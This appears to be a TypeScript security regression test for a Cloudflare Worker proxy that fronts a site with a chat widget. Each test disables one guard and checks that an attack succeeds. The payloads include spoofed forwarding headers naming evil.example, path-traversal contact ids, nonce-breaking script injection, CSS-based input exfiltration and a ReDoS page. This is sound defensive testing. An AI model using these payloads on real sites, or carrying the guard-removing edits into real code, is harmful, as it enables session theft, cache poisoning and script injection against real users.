import { type RequestListener } from "node:http";
import { launchChromium } from "../../browser/chromium.ts";
import { access } from "../../playground/playground.ts";
import { type RunningSite, startSite } from "../../playground/site/site.ts";
import {
  type RawConnection,
  buildRequest,
  openConnection,
  type RequestParts,
  sendRaw,
} from "../../worker/raw-request.ts";
import { startRawOrigin } from "../../worker/raw-origin.ts";
import { startWorkerd } from "../../worker/start-workerd.ts";
import { createVisitorClient } from "../../worker/visitor-client.ts";
import { type Attack, type Target } from "../attack.ts";
import { createSharedCache } from "../shared-cache.ts";
import { askingAmazon } from "../victim.ts";
import { startWatchedServer, type WatchedServer } from "../watched-server.ts";

/** Attacks by what passes through to the site and back, and by what ends up in its pages. */
export const proxyAttacks: readonly Attack[] = [
  {
    name: "Names another host in the path, so that the Worker sends the visitor's cookies there",
    withoutGuard: {
      file: "src/core/headers/forwarding.ts",
      from: "return target.href;",
      to: "return new URL(target.pathname + target.search, originUrl).href;",
    },
    attempt: ({ startBare }) =>
      withServer(answerText("the shop"), (shop) =>
        withServer(answerText("another host"), async (other) => {
          const worker = await startBare({ ORIGIN_URL: shop.origin });
          const { host } = new URL(other.origin);
          const starts = ["//", "/\\", "///", "/%2f%2f", "//user@", "/@", "http://", "http://user:password@"];
          for (const start of starts) {
            await send(worker.origin, { path: `${start}${host}/a`, headers: ["Cookie: session=of-the-visitor"] });
          }
          return other.asked.some(({ headers }) => headers.cookie?.includes("of-the-visitor"));
        }),
      ),
  },
  {
    name: "Lies about its address and the host it asked for, in headers that origins trust",
    withoutGuard: { file: "src/core/headers/forwarding.ts", from: "filter(isHopClaim)", to: "filter(() => false)" },
    attempt: ({ startBare }) =>
      withServer(answerText("the shop"), async (shop) => {
        const worker = await startBare({ ORIGIN_URL: shop.origin });
        const dashed = [
          "X-Forwarded-For",
          "X-Real-IP",
          "True-Client-IP",
          "CF-Connecting-IPv6",
          "X-Forwarded-Client-IP",
          "X-Client-IP",
          "Client-IP",
          "X-Forwarded",
        ];
        const addresses = [...dashed, ...dashed.map((name) => name.replaceAll("-", "_"))];
        const hosts = [
          "X-Forwarded-Host",
          "X-Forwarded-Server",
          "X-Forwarded-Prefix",
          "X_Forwarded_Host",
          "X-Host",
          "X-Original-Host",
        ];
        const headers = [
          ...addresses.map((name) => `${name}: 203.0.113.66`),
          ...hosts.map((name) => `${name}: evil.example`),
          "Forwarded: for=203.0.113.66;host=evil.example",
        ];
        await send(worker.origin, { path: "/", headers });
        const [received] = shop.asked;
        return received?.rawHeaders.some((text) => /203\.0\.113\.66|evil\.example/.test(text)) ?? false;
      }),
  },
  {
    name: "Has Cloudflare keep what the site answered under one host name, for visitors of another that leads here too",
    withoutGuard: { file: "src/adapters/origin.ts", from: "request), UNCACHED)", to: "request))" },
    async attempt({ path }) {
      const worker = await startWorkerd({ entry: path("test/worker/entries/cache-terms.ts") });
      try {
        const terms = await (await fetch(worker.origin)).text();
        return terms !== JSON.stringify({ cacheTtlByStatus: { "100-599": -1 } });
      } finally {
        await worker.close();
      }
    },
  },
  {
    name: "Uses a redirect of the site's to read what only the Worker can reach",
    withoutGuard: {
      file: "src/adapters/origin.ts",
      from: "return fetch(forwarded);",
      to: 'return fetch(new Request(forwarded, { redirect: "follow" }));',
    },
    attempt: ({ startBare }) =>
      withServer(answerText("for insiders"), async (inside) =>
        withServer(redirectTo(`${inside.origin}/secrets`), async (shop) => {
          const worker = await startBare({ ORIGIN_URL: shop.origin });
          const { body } = await send(worker.origin, { path: `/leave?to=${inside.origin}/secrets` });
          return body.includes("for insiders");
        }),
      ),
  },
  {
    name: "Reports a path as its contact id, so that the signed call goes to another address of Amazon's",
    withoutGuard: [
      { file: "src/adapters/describe-contact.ts", from: "!UUID.test(contactId)", to: "false" },
      { file: "src/core/chat/contact-report.ts", from: String.raw`/^[\w-]+$/`, to: "/^[^]+$/" },
    ],
    attempt: (target) =>
      leadsAmazonCallAstray(target, ["../../x?y", "a/../../b", "c?d", "e#f", "g/h", "..\\..\\i", ".", ".."]),
  },
  {
    name: "Reads visitors' cookies of ours at the site or in its logs, also by WebSocket or upload",
    withoutGuard: { file: "src/core/headers/forwarding.ts", from: "if (allowed !== cookie)", to: "if (false)" },
    attempt: ({ startBare }) =>
      withSite(async (site) => {
        const worker = await startBare({ ORIGIN_URL: site.origin });
        const ours = "__Host-chat-0123abcd=sealed-for-us";
        const cookies = [
          [`Cookie: ${ours}`],
          [`Cookie: a=1;${ours}; b=2`],
          ["Cookie: a=1", `Cookie: ${ours}`],
          [`Cookie: =${ours}`],
          // U+00A0 in UTF-8, and a byte that is none.
          [`Cookie: \u00c2\u00a0${ours}`],
          [`Cookie: a=1; \u00a0${ours}`],
          [`Cookie: a="1; ${ours.replace("Host", "HOST")}"`],
        ];
        const echoes = cookies.flatMap((headers) => [
          send(worker.origin, { path: "/try/echo", headers }),
          send(worker.origin, { path: "/try/echo", headers, method: "POST", body: "a=1" }),
        ]);
        const seen = (await Promise.all(echoes)).map(({ body }) => String(body));
        const socket = await openWebSocket(worker.origin, `Cookie: ${ours}`);
        return [...seen, socket.received()].some((text) => text.includes("sealed-for-us"));
      }),
  },
  {
    name: "Plants a cookie of its own under our name, by an answer of the site's: a page, a file, a WebSocket",
    withoutGuard: { file: "src/http/site/site.ts", from: "!isOwnSetCookie(cookie)", to: "true" },
    attempt: ({ startBare }) =>
      withSite(async (site) => {
        const worker = await startBare({ ORIGIN_URL: site.origin });
        const page = { path: "/try/cookies/plant-on-page", headers: ["Sec-Fetch-Dest: document"] };
        const answers = await Promise.all(
          [page, { path: "/try/cookies/plant" }].map((call) => send(worker.origin, call)),
        );
        const socket = await openWebSocket(worker.origin);
        const heads = [...answers.flatMap(({ head }) => head), ...socket.received().split("\r\n")];
        return heads.some((line) => /^set-cookie:[^!-<>-~]*__host-chat-/i.test(line));
      }),
  },
  {
    name: "Sends one request that goes round for ever, where ORIGIN_URL leads back to the Worker",
    withoutGuard: {
      file: "src/core/headers/forwarding.ts",
      from: "new URL(requestUrl).host === originUrl.host",
      to: "false",
    },
    async attempt({ startBare }) {
      // What stands between two addresses of one Worker: a load balancer, or DNS.
      const between = await startRawOrigin();
      const worker = await startBare({ ORIGIN_URL: between.origin });
      const client = openConnection(worker.origin);
      client.socket.write(buildRequest({ path: "/", host: "www.example.com" }));
      const rounds: RawConnection[] = [];
      while (rounds.length < 10) {
        const round = await between.nextUnless(client.ended);
        if (round === null) break;
        rounds.push(round);
        round.socket.pipe(openConnection(worker.origin).socket).pipe(round.socket);
      }
      client.socket.destroy();
      await between.close();
      return rounds.length === 10;
    },
  },
  {
    name: "Ends our tag with its own text, where the site lets visitors choose the nonce of its policy",
    withoutGuard: { file: "src/core/page/script-tag.ts", from: "escapeAttribute(nonce)", to: "nonce" },
    attempt: (target) =>
      runsScript(target, {
        html: "<!doctype html><html><head><title>A page</title></head><body></body></html>",
        policy: `script-src 'unsafe-inline' 'nonce-"></script><script>window.stolen=1</script>'`,
      }),
  },
  {
    name: "Has our tag end an attribute that shows its text, where the site's page was safe without us",
    withoutGuard: { file: "src/core/page/html-token.ts", from: `quote !== '"' && quote !== "'"`, to: "true" },
    attempt: (target) =>
      runsScript(target, {
        html: `<!doctype html><html data-search="><head><script>window.stolen=1</script>"><head></head><body></body></html>`,
      }),
  },
  {
    name: "Loads an upload of its own as script, by way of the path that a policy of hashes lets us load from",
    withoutGuard: { file: "src/core/policy/content-security-policy.ts", from: "`${own}widget.js`", to: "own" },
    attempt: (target) =>
      runsScript(target, {
        html: `<!doctype html><html><head></head><body><script src="/_chat/..%2fuploads/review.js"></script></body></html>`,
        policy: "script-src 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
      }),
  },
  {
    name: "Writes a semicolon as a character reference, where a policy in the page's head shows its text",
    withoutGuard: { file: "src/http/page/meta-policies.ts", from: '.replaceAll("&", "&amp;")', to: "" },
    attempt: (target) =>
      runsScript(target, {
        html: `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="script-src 'self'; report-uri /?q=&amp;#59script-src-elem&amp;#32'unsafe-inline'"></head><body><script>window.stolen=1</script></body></html>`,
      }),
  },
  {
    name: "Signs out first, so that a cache in front gives the next visitor a sign-out that is not theirs",
    withoutGuard: {
      file: "src/http/site/sign-out.ts",
      from: "forbidKeeping(left.headers);",
      to: "",
    },
    attempt: ({ startBare }) =>
      withServer(answerText("signed out", { "cache-control": "public, max-age=60" }), async (shop) => {
        const worker = await startBare({ ORIGIN_URL: shop.origin, SIGN_OUT_PATHS: "/logout" });
        const cache = createSharedCache(worker.origin);
        const marks: (string | undefined)[] = [];
        for (const _visitor of ["attacker", "victim"]) {
          const { head } = await cache.get("/logout");
          marks.push(head.find((line) => line.startsWith("set-cookie: __Host-chat-left=")));
        }
        return marks[0] !== undefined && marks[0] === marks[1];
      }),
  },
  {
    name: "Has a cache in front keep a refusal in place of widget.js, so that no visitor gets the chat",
    withoutGuard: { file: "src/http/chat/own-headers.ts", from: 'c.header("cache-control", "no-store");', to: "" },
    async attempt({ startBare }) {
      const cache = createSharedCache((await startBare()).origin);
      await cache.get("/x/../_chat/widget.js");
      const { body } = await cache.get("/_chat/widget.js");
      return !body.includes("amazon_connect");
    },
  },
  {
    name: "Asks health and provokes the 502 page, to learn where the site behind the Worker is",
    withoutGuard: {
      file: "src/app.ts",
      from: 'c.json({ status: "misconfigured" }, 503)',
      to: 'c.json({ status: "misconfigured", problems: config.problems }, 503)',
    },
    async attempt({ startBare }) {
      const workers = await Promise.all(
        // One that cannot be used, and one where nobody answers.
        ["http://secret.localhost:1/path", "http://secret.localhost:1"].map((ORIGIN_URL) => startBare({ ORIGIN_URL })),
      );
      const answers = workers.flatMap(({ origin }) =>
        ["/", "/_chat/health", "/_chat/widget.js", "/_chat/token"].map((path) => send(origin, { path })),
      );
      return (await Promise.all(answers)).some(({ head, body }) =>
        `${head.join()}${String(body)}`.includes("secret.localhost"),
      );
    },
  },
  {
    name: "Sends an input's value away by an injected style, where the site's policy forbade pictures from elsewhere",
    withoutGuard: { file: "src/core/policy/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
    attempt: (target) =>
      loadsPicture(target, {
        html: `<!doctype html><html><head></head><body><input value="4711"><style>input[value^="4"] { background: url(${ELSEWHERE}/?begins=4) }</style></body></html>`,
        policy: "default-src 'self'; style-src 'self' 'unsafe-inline'",
      }),
  },
  {
    name: "Loads pictures from anywhere in an upload that the site serves with default-src 'none'",
    withoutGuard: [
      { file: "src/core/policy/content-security-policy.ts", from: 'return "csp-no-script";', to: "return null;" },
      { file: "src/core/policy/chat-sources.ts", from: '"data:", origin,', to: '"data:", "https:",' },
    ],
    attempt: (target) =>
      loadsPicture(target, {
        html: `<!doctype html><html><head></head><body><img src="${ELSEWHERE}/counted.png"></body></html>`,
        policy: "default-src 'none'",
      }),
  },
  {
    name: "Has a page show text of its own in a script of the head, so that every view of the page costs seconds",
    withoutGuard: {
      file: "src/core/page/head-search.ts",
      from: String.raw`[a-z](?:[^\s/>]{0,9}[\s/>]|[^\s/>]{9})`,
      to: String.raw`[a-z][^\s/>]*[\s/>]`,
    },
    attempt: ({ startBare }) => {
      const policy = `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`;
      const showing = (text: string) =>
        `<!doctype html><html><head>${policy}<script>const text = "${text}"</script></head><body></body></html>`;
      const pages = { evil: showing("<a".repeat(10_000)), harmless: showing("aa".repeat(10_000)) };
      const answer: RequestListener = ({ url }, response) =>
        response.setHeader("content-type", "text/html").end(url === "/evil" ? pages.evil : pages.harmless);
      return withServer(answer, async (shop) => {
        const worker = await startBare({ ORIGIN_URL: shop.origin });
        const readMedianMs = async (path: string) => {
          const times: number[] = [];
          for (const _try of [1, 2, 3, 4, 5]) {
            const before = performance.now();
            await send(worker.origin, { path, headers: ["Sec-Fetch-Dest: document"] });
            times.push(performance.now() - before);
          }
          return times.sort((a, b) => a - b)[2] ?? 0;
        };
        // The same number of bytes: a shared machine is slow for both.
        const harmless = await readMedianMs("/harmless");
        return (await readMedianMs("/evil")) > 20 * harmless;
      });
    },
  },
];

const ELSEWHERE = "https://elsewhere.example";

function send(origin: string, request: Omit<RequestParts, "host">) {
  return sendRaw(origin, buildRequest({ ...request, host: "www.example.com" }));
}

/** The connection with the answer's head in it. */
async function openWebSocket(origin: string, ...headers: readonly string[]): Promise<RawConnection> {
  const connection = openConnection(origin);
  const upgrade = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"];
  const lines = ["GET /try/web-socket HTTP/1.1", "Host: www.example.com", ...upgrade, ...headers];
  connection.socket.write(`${lines.join("\r\n")}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`);
  await connection.until("\r\n\r\n");
  connection.socket.destroy();
  return connection;
}

/** Whether a visitor who reports such contact ids makes the Worker call anything but DescribeContact. */
function leadsAmazonCallAstray({ start }: Target, contactIds: readonly string[]): Promise<boolean> {
  const answerNotFound: RequestListener = (_request, response) => response.writeHead(404).end("{}");
  return withServer(answerNotFound, async (amazon) => {
    const { origin } = await start(askingAmazon(amazon));
    for (const contactId of contactIds) {
      const visitor = createVisitorClient(origin);
      await visitor.report({ ticket: (await visitor.token()).ticket, contactId });
      await visitor.token();
    }
    const describeContact = new RegExp(`^/contacts/${access.instanceId}/[^/?#]+$`);
    return amazon.asked.some(({ url = "" }) => !describeContact.test(url));
  });
}

interface AttackedPage {
  readonly html: string;
  readonly policy?: string;
}

/** Whether the attacker's script runs in the page; the site answers with it as well where it is asked for an upload. */
function runsScript({ startBare }: Target, { html, policy }: AttackedPage): Promise<boolean> {
  const answer: RequestListener = ({ url = "" }, response) => {
    // As web servers do that decode a path before they resolve its dots.
    const { pathname } = new URL(decodeURIComponent(url), "http://localhost");
    if (pathname === "/uploads/review.js") {
      response.writeHead(200, { "content-type": "text/javascript" }).end("window.stolen = 1");
      return;
    }
    const headers = policy === undefined ? {} : { "content-security-policy": policy };
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", ...headers }).end(html);
  };
  return withServer(answer, async (shop) => {
    const [worker, browser] = await Promise.all([startBare({ ORIGIN_URL: shop.origin }), launchChromium()]);
    try {
      const page = await browser.newPage();
      await page.goto(worker.origin, { waitUntil: "domcontentloaded" });
      return await page.evaluate(() => "stolen" in window);
    } finally {
      await browser.close();
    }
  });
}

/** Whether a browser asks for the page's picture, or refuses by its policy. */
function loadsPicture({ startBare }: Target, { html, policy }: Required<AttackedPage>): Promise<boolean> {
  const answer: RequestListener = (_request, response) =>
    response
      .writeHead(200, { "content-type": "text/html; charset=utf-8", "content-security-policy": policy })
      .end(html);
  return withServer(answer, async (shop) => {
    const [worker, browser] = await Promise.all([startBare({ ORIGIN_URL: shop.origin }), launchChromium()]);
    try {
      const page = await browser.newPage();
      const { promise: isAsked, resolve } = Promise.withResolvers<boolean>();
      await page.route(`${ELSEWHERE}/**`, async (route) => {
        resolve(true);
        await route.abort();
      });
      await page.exposeFunction("onRefused", (address: string) => {
        if (address.startsWith(ELSEWHERE)) resolve(false);
      });
      await page.addInitScript(
        'document.addEventListener("securitypolicyviolation", ({ blockedURI }) => onRefused(blockedURI))',
      );
      await page.goto(worker.origin, { waitUntil: "commit" });
      return await isAsked;
    } finally {
      await browser.close();
    }
  });
}

function answerText(text: string, headers: Readonly<Record<string, string>> = {}): RequestListener {
  return (_request, response) => response.writeHead(200, { "content-type": "text/plain", ...headers }).end(text);
}

function redirectTo(location: string): RequestListener {
  return (_request, response) => response.writeHead(302, { location }).end();
}

async function withServer<T>(answer: RequestListener, work: (server: WatchedServer) => Promise<T>): Promise<T> {
  const server = await startWatchedServer(answer);
  try {
    return await work(server);
  } finally {
    await server.close();
  }
}

async function withSite<T>(work: (site: RunningSite) => Promise<T>): Promise<T> {
  const site = await startSite({ port: 0 });
  try {
    return await work(site);
  } finally {
    await site.close();
  }
}
